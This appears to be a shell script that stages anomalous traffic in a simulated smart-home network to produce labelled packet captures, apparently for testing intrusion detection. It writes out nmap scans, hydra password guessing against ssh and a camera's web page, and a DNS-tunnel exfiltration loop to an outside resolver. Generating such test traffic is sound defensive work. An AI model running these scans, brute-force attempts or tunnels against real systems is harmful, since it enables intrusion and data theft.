# What is new in each novel-* capture; the devices go on as before beside it. The addresses are such
# that a short tcpdump filter names the novel packets exactly (captures.json, "novelWhen"): an
# intruder that is otherwise silent, or a server that no device spoke to before.
# Each function returns when its act is over; the recording goes on a little.

# SYN scan of two hosts and of an address that swallows everything (one packet a flow), then a
# connect scan and a few UDP ports.
novelty_scan() {
  {
    in_ns intruder nmap -n -Pn -sS -F --max-retries 1 192.168.50.10 192.168.50.23
    in_ns intruder nmap -n -Pn -sS --top-ports 60 --max-retries 0 203.0.113.99
    in_ns intruder nmap -n -Pn -sT --top-ports 80 192.168.50.1
    in_ns intruder nmap -n -Pn -sU --top-ports 8 --max-retries 0 192.168.50.25
  } >>"$SCRATCH/intruder.out" 2>&1
}

# Password guessing against the hub's sshd and the camera's web page.
novelty_bruteforce() {
  local n
  for n in $(seq 40); do echo "password$n"; done >"$SCRATCH/passwords"
  {
    in_ns intruder timeout 25 hydra -I -l admin -P "$SCRATCH/passwords" -t 4 ssh://192.168.50.10 || true
    in_ns intruder timeout 10 hydra -I -l admin -P "$SCRATCH/passwords" -t 4 192.168.50.23 http-get / || true
  } >>"$SCRATCH/intruder.out" 2>&1
}

# The plug, which only ever polls, fetches a firmware image in one piece; the camera fetches it in
# pieces of 4,000 bytes, one connection each.
novelty_firmware() {
  local fetch="curl -s --max-time 10 --cacert $SCRATCH/tls.crt -o /dev/null https://updates.vendor.example/firmware.bin" start
  in_ns plug $fetch
  for start in $(seq 0 4000 95999); do
    in_ns camera $fetch -r "$start-$((start + 3999))"
    sleep 0.3
  done
}

# The thermometer begins to send a second, unknown broker batches of large messages, often.
novelty_publishing() {
  local n line
  for n in $(seq 45); do
    for line in 1 2 3 4 5 6; do
      printf '{"batch":%d,"part":%d,"log":"%s"}\n' "$n" "$line" "$(head -c $((150 + RANDOM % 150)) /dev/urandom | od -An -tx1 | tr -d ' \n')"
    done | in_ns thermometer mosquitto_pub -h 203.0.113.30 -i thermometer-2 -q 0 -t collect/logs -l
    sleep 0.2
  done
}

# The camera sends data out inside names: long labels asked of a resolver outside the house.
novelty_dnstunnel() {
  local n
  for n in $(seq 120); do
    in_ns camera dig +tries=1 +time=2 @203.0.113.53 \
      "$(openssl rand -hex 30).$(openssl rand -hex $((8 + RANDOM % 22))).$n.t.collect.example" A >/dev/null
    sleep 0.08
  done
}
